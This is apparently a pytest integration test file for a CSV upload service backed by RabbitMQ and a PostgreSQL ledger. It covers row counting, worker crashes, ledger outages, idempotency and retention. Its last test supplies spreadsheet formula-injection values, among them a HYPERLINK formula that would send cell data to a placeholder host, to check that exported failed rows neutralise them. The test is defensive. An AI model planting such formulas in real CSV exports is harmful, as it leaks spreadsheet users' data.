"""The ledger against real RabbitMQ and PostgreSQL: uploads reach `done`, failed rows come back, none counts twice."""

import collections
import csv
import io
import os
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path
from urllib.parse import urlsplit

import httpx
import psycopg
from fastapi.testclient import TestClient

from producer.app import create_app
from producer.settings import Settings
from tests.helpers import REPO_ROOT, wait_for
from tests.helpers.broker import Broker
from tests.helpers.producer import csv_file, producer
from tests.helpers.tcp_proxy import TcpProxy
from tests.helpers.worker import handled, start_worker
from worker.ledger import Ledger, RowOutcome


def upload(client: TestClient, data: bytes, **headers: str):
    return client.post("/upload", files={"file": ("rows.csv", data, "text/csv")}, headers=headers)


def test_an_upload_drained_by_a_worker_is_done_with_every_row_counted(client: TestClient, queue_name: str,
                                                                       tmp_path: Path) -> None:
    response = upload(client, csv_file(500))
    assert response.status_code == 200, response.text
    status_url = response.json()["status_url"]
    assert status_url == f"/uploads/{response.json()['upload_id']}"
    before = client.get(status_url).json()
    assert (before["state"], before["rows"], before["confirmed"], before["done"]) == ("processing", 500, 500, 0)
    assert start_worker(queue_name, tmp_path / "handled").wait(timeout=60) == 0
    after = client.get(status_url).json()
    assert (after["state"], after["done"], after["failed"]) == ("done", 500, 0)
    assert after["finished_at"] is not None and after["rows_per_second"] > 0 and after["eta_seconds"] == 0


def test_the_failed_rows_come_back_as_csv_with_their_error(client: TestClient, queue_name: str,
                                                           tmp_path: Path) -> None:
    upload_id = upload(client, csv_file(50, poison=frozenset({3, 17}))).json()["upload_id"]
    worker = start_worker(queue_name, tmp_path / "handled", "fail_poison", WORKER_MAX_ATTEMPTS="2")
    assert worker.wait(timeout=60) == 0
    status = client.get(f"/uploads/{upload_id}").json()
    assert (status["state"], status["done"], status["failed"]) == ("done", 48, 2)
    response = client.get(status["failed_url"])
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    assert list(csv.reader(io.StringIO(response.text))) == [
        ["id", "name", "poison", "_row", "_attempts", "_error"],
        ["3", "name 3", "yes", "3", "2", "RuntimeError: poison row 3"],
        ["17", "name 17", "yes", "17", "2", "RuntimeError: poison row 17"],
    ]


def test_a_killed_workers_rows_are_each_recorded_once(client: TestClient, queue_name: str, tmp_path: Path,
                                                      ledger_database: str) -> None:
    record, rows = tmp_path / "handled", 3000
    upload_id = upload(client, csv_file(rows)).json()["upload_id"]
    first = start_worker(queue_name, record, "slow", SLOW_SECONDS="0.002", WORKER_PREFETCH="50")
    wait_for(lambda: sum(handled(record).values()) >= 500, what="the first worker to handle 500 rows",
             interval=0.05)
    first.send_signal(signal.SIGKILL)
    first.wait(timeout=10)
    assert sum(handled(record).values()) < rows, "the kill came too late to test anything"
    assert start_worker(queue_name, record, WORKER_PREFETCH="50").wait(timeout=120) == 0
    status = client.get(f"/uploads/{upload_id}").json()
    assert (status["state"], status["done"], status["failed"]) == ("done", rows, 0)
    assert set(handled(record)) == {str(i) for i in range(1, rows + 1)}
    with psycopg.connect(ledger_database) as conn:
        outcomes = conn.execute("SELECT count(*), count(DISTINCT row_number) FROM row_outcomes WHERE upload_id = %s",
                                (upload_id,)).fetchone()
    assert outcomes == (rows, rows)
    handled_twice = sum(handled(record).values()) - rows
    assert handled_twice + status["redelivered"] <= 50, "only the rows the killed worker held come back"


def test_with_the_ledger_down_nothing_is_acked_and_the_drain_finishes_after(queue_name: str, tmp_path: Path,
                                                                            broker: Broker,
                                                                            ledger_database: str) -> None:
    rows, proxy = 400, TcpProxy(urlsplit(ledger_database).port or 5432)
    with TestClient(create_app(Settings(queue_name=queue_name))) as client:
        answer = upload(client, csv_file(rows)).json()
        upload_id = answer["upload_id"]
        worker = start_worker(queue_name, tmp_path / "handled", "slow", SLOW_SECONDS="0.01",
                              DATABASE_URL=proxy.through(ledger_database), WORKER_PREFETCH="50")
        wait_for(lambda: client.get(f"/uploads/{upload_id}").json()["done"] > 0, what="rows recorded", interval=0.1)
        proxy.cut("refuse")
        time.sleep(2)  # the worker handles what it holds, and records nothing
        done = client.get(f"/uploads/{upload_id}").json()["done"]
        time.sleep(2)
        assert client.get(f"/uploads/{upload_id}").json()["done"] == done
        assert worker.poll() is None, "the worker waits for the ledger"
        # Every row the ledger lacks is still in the queue (ready, or held by the worker). More may
        # be: a batch whose commit the cut hid from the worker is recorded but not acked yet. The
        # management API's counts lag by its statistics interval (1 s), well within the 4 s waited;
        # a new quorum queue's first counts take a few seconds more on RabbitMQ 3.10.
        reported = wait_for(lambda: broker.reported_messages(answer["queue"]), what="the queue's counts", timeout=15)
        assert reported >= rows - done, "a row was acked that the ledger does not have"
        proxy.restore()
        assert worker.wait(timeout=60) == 0
        status = client.get(f"/uploads/{upload_id}").json()
    assert (status["state"], status["done"]) == ("done", rows)


def test_an_unreachable_ledger_means_503_and_nothing_published(queue_name: str, broker: Broker,
                                                               ledger_database: str) -> None:
    proxy = TcpProxy(urlsplit(ledger_database).port or 5432)
    settings = Settings(queue_name=queue_name, database_url=proxy.through(ledger_database),
                        database_timeout_seconds=2)
    with TestClient(create_app(settings)) as client:
        proxy.cut("refuse")
        response = upload(client, csv_file(10))
        assert response.status_code == 503, response.text
        assert response.json()["error"].startswith("PostgreSQL unavailable, nothing published")
        # /readyz answers from the ledger's watch, which pings every PROBE_SECONDS.
        wait_for(lambda: client.get("/readyz").status_code == 503, what="/readyz to see PostgreSQL gone", timeout=10,
                 interval=0.2)
    assert not broker.exists(queue_name) or broker.backlog(queue_name) == 0


def test_a_producer_started_before_postgresql_waits_for_it_and_serves(queue_name: str, ledger_database: str) -> None:
    proxy = TcpProxy(urlsplit(ledger_database).port or 5432)
    proxy.cut("refuse")
    threading.Timer(2.0, proxy.restore).start()  # PostgreSQL comes after the producer has started
    with producer(queue_name, DATABASE_URL=proxy.through(ledger_database), DATABASE_TIMEOUT_SECONDS="1",
                  PRODUCER_DATABASE_WAIT_SECONDS="30") as (url, _pid):
        assert httpx.get(f"{url}/readyz").status_code == 200
    proxy.close()


def test_a_producer_whose_postgresql_never_comes_exits_3_and_says_why(queue_name: str, ledger_database: str) -> None:
    proxy = TcpProxy(urlsplit(ledger_database).port or 5432)
    proxy.cut("refuse")
    env = os.environ | {"QUEUE_NAME": queue_name, "DATABASE_URL": proxy.through(ledger_database),
                        "DATABASE_TIMEOUT_SECONDS": "1", "PRODUCER_DATABASE_WAIT_SECONDS": "1"}
    started = time.monotonic()
    finished = subprocess.run([sys.executable, "-m", "producer"], cwd=REPO_ROOT, env=env, capture_output=True,
                              text=True, timeout=30)
    proxy.close()
    assert finished.returncode == 3, finished.stderr
    assert "ledger unavailable at start, giving up" in finished.stdout, finished.stdout
    assert time.monotonic() - started < 15


def test_the_same_key_returns_the_same_upload_and_publishes_nothing_again(client: TestClient, broker: Broker,
                                                                          queue_name: str) -> None:
    key = {"Idempotency-Key": f"k-{queue_name}"}
    first = upload(client, csv_file(20), **key)
    again = upload(client, csv_file(20), **key)
    assert (first.status_code, again.status_code) == (200, 200)
    assert again.json()["upload_id"] == first.json()["upload_id"]
    assert broker.backlog(queue_name) == 20
    other = upload(client, csv_file(21), **key)
    assert other.status_code == 409 and "another file" in other.json()["error"]
    assert broker.backlog(queue_name) == 20


def test_uploads_are_listed_newest_first_a_page_at_a_time(client: TestClient) -> None:
    ids = [upload(client, csv_file(1)).json()["upload_id"] for _ in range(3)]
    page = client.get("/uploads?limit=2").json()
    assert [u["upload_id"] for u in page["uploads"]] == ids[::-1][:2]
    rest = client.get(page["next_url"]).json()
    assert rest["uploads"][0]["upload_id"] == ids[0]
    missing = client.get("/uploads/nope")
    assert missing.status_code == 404 and missing.json() == {"error": "no upload 'nope'"}


def test_uploads_older_than_the_retention_are_deleted_their_queues_first(queue_name: str, ledger_database: str,
                                                                        broker: Broker) -> None:
    with TestClient(create_app(Settings(queue_name=queue_name))) as client:
        (old, old_queue), (new, new_queue) = (
            (answer["upload_id"], answer["queue"]) for answer in (upload(client, csv_file(1)).json() for _ in range(2)))
    with psycopg.connect(ledger_database) as conn:
        conn.execute("UPDATE uploads SET created_at = now() - interval '8 days' WHERE id = %s", (old,))
    with TestClient(create_app(Settings(queue_name=queue_name, ledger_retention_days=7))) as client:
        wait_for(lambda: client.get(f"/uploads/{old}").status_code == 404, what="the old upload to be deleted")
        assert client.get(f"/uploads/{new}").status_code == 200
    assert (broker.exists(old_queue), broker.exists(new_queue)) == (False, True), "nothing left to delete it later"


def test_outcomes_keep_quotes_backslashes_braces_and_unicode_exactly(client: TestClient, ledger_database: str) -> None:
    upload_id = upload(client, csv_file(2)).json()["upload_id"]
    awkward = 'a "quoted" \\ back{slash}, comma; NULL é ✓'
    ledger = Ledger(ledger_database, timeout_s=5)
    ledger.open()
    try:
        data = {"id": awkward, "name": "NULL", "poison": "no"}
        failed = RowOutcome(upload_id, 2, 3, error=f"ValueError: {awkward}", data=data)
        ledger.record([RowOutcome(upload_id, 1, 1), failed], redelivered=collections.Counter())
    finally:
        ledger.close()
    status = client.get(f"/uploads/{upload_id}").json()
    assert (status["state"], status["done"], status["failed"]) == ("done", 1, 1)
    assert list(csv.reader(io.StringIO(client.get(status["failed_url"]).text)))[1:] == [
        [awkward, "NULL", "no", "2", "3", f"ValueError: {awkward}"]]


def test_failed_cells_a_spreadsheet_would_run_start_with_a_quote_unless_raw(client: TestClient,
                                                                            ledger_database: str) -> None:
    response = client.post("/upload", files={"file": ("rows.csv", b"id,=name,poison\n1,a,no\n2,b,no\n", "text/csv")})
    upload_id = response.json()["upload_id"]
    formulas = [{"id": '=HYPERLINK("http://x/?"&A2)', "=name": "-2", "poison": "\tx"},
                {"id": "+1", "=name": "@SUM(A1)", "poison": "\r=1;=2"}]
    ledger = Ledger(ledger_database, timeout_s=5)
    ledger.open()
    try:
        ledger.record([RowOutcome(upload_id, row, 3, error="ValueError: =1+2", data=data)
                       for row, data in enumerate(formulas, start=1)], redelivered=collections.Counter())
    finally:
        ledger.close()

    spreadsheet = client.get(f"/uploads/{upload_id}/failed")
    assert spreadsheet.text == (
        '"id","\'=name","poison","_row","_attempts","_error"\n'
        '"\'=HYPERLINK(""http://x/?""&A2)","\'-2","\'\tx","1","3","ValueError: =1+2"\n'
        '"\'+1","\'@SUM(A1)","\'\r=1;=2","2","3","ValueError: =1+2"\n')
    raw = client.get(f"/uploads/{upload_id}/failed", params={"raw": "1"})
    assert list(csv.reader(io.StringIO(raw.text, newline=""))) == [
        ["id", "=name", "poison", "_row", "_attempts", "_error"],
        *([*data.values(), str(row), "3", "ValueError: =1+2"] for row, data in enumerate(formulas, start=1))]
